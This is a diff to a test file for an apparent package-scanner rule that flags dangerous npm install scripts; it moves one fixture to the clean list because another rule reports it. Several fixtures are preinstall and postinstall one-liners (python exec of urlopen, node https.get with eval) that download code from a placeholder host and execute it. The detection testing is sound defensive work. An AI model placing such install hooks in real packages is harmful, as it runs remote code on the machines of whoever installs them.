@@ -5,6 +5,8 @@ const pkg = (scripts: Record<string, string>) => JSON.stringify({ name: 'x', scr
 
 ruleTest(rule, {
   clean: [
+    // A one-liner that downloads and executes is a download-to-shell shape: autorun-pipes-download-to-shell reports it.
+    { name: 'inline preinstall python -c urlopen + exec (reported by autorun-pipes-download-to-shell)', files: { 'package.json': pkg({ preinstall: "python3 -c \"import urllib.request as u; exec(u.urlopen('https://cdn.example.invalid/x').read())\"" }) } },
     { name: 'node-gyp', files: { 'node_modules/canvas/package.json': pkg({ install: 'prebuild-install -r napi || node-gyp rebuild' }) } },
     { name: 'husky', files: { 'package.json': pkg({ prepare: 'husky install', postinstall: 'is-ci || husky' }) } },
     { name: 'prisma generate and patch-package', files: { 'package.json': pkg({ postinstall: 'prisma generate && patch-package' }) } },
@@ -66,11 +68,6 @@ ruleTest(rule, {
       name: 'inline postinstall that downloads and evals (node -e https.get … eval)',
       files: { 'package.json': pkg({ postinstall: "node -e \"require('https').get('https://cdn.example.invalid/p',r=>{let d='';r.on('data',c=>d+=c);r.on('end',()=>eval(d))})\"" }) },
       findings: [{ line: 4, severity: 'critical', confidence: 'high', message: /downloads and executes code/ }],
-    },
-    {
-      name: 'inline preinstall python -c urlopen + exec',
-      files: { 'package.json': pkg({ preinstall: "python3 -c \"import urllib.request as u; exec(u.urlopen('https://cdn.example.invalid/x').read())\"" }) },
-      findings: [{ line: 4, severity: 'critical', confidence: 'high' }],
     },
     {
       name: 'inline postinstall that only prints a URL stays high/medium, not critical',
